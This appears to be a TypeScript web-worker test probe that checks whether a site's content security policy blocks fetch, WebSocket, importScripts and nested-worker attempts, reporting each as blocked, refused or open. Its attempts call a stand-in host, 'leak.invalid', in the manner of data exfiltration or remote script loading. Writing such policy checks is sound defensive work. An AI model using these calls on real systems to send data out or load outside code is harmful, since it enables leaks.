/*
 * The same attempts from inside of a worker, where tools open files. It is sealed like every other worker of the
 * site: its own policy lets it reach nothing, this site included.
 */
const to = 'https://leak.invalid'
const timeoutMs = 1500

/** Each with what the browser's report of it names as stopped. */
const attempts = {
  fetch: [() => fetch(`${to}/fetch`, { mode: 'no-cors' }), `${to}/fetch`],
  ownSite: [() => fetch('/integrity.json'), '/integrity.json'],
  webSocket: [() => new WebSocket('wss://leak.invalid/socket'), '/socket'],
  // As a member, so that the build, which refuses workers that load more, lets this attempt through.
  script: [
    () => (self as unknown as { importScripts(url: string): void }).importScripts(`${to}/script`),
    `${to}/script`,
  ],
  secondWorker: [() => new Worker('/begin.js'), '/begin.js'],
} as const

async function tryOne(attempt: () => unknown, target: string) {
  let failed = false
  const report = new Promise<string | undefined>((resolve) => {
    const end = (rule: string | undefined) => {
      clearTimeout(timer)
      self.removeEventListener('securitypolicyviolation', look)
      resolve(rule)
    }
    // A host may send two policies, and both report: one of them may be late, about the attempt before.
    const look = (event: Event) => {
      const { blockedURI, effectiveDirective } = event as SecurityPolicyViolationEvent
      if (blockedURI.endsWith(target) || blockedURI === 'trusted-types-sink') end(effectiveDirective)
    }
    const timer = setTimeout(() => end(undefined), timeoutMs)
    self.addEventListener('securitypolicyviolation', look)
  })
  try {
    const made = attempt()
    if (made instanceof Promise)
      await made.catch(() => {
        failed = true
      })
  } catch {
    failed = true
  }
  const rule = await report
  if (rule !== undefined) return { kind: 'blocked', rule }
  return { kind: failed ? 'refused' : 'open' }
}

self.onmessage = async () => {
  for (const [channel, [attempt, target]] of Object.entries(attempts))
    self.postMessage({ channel, outcome: await tryOne(attempt, target) })
  self.postMessage('done')
}
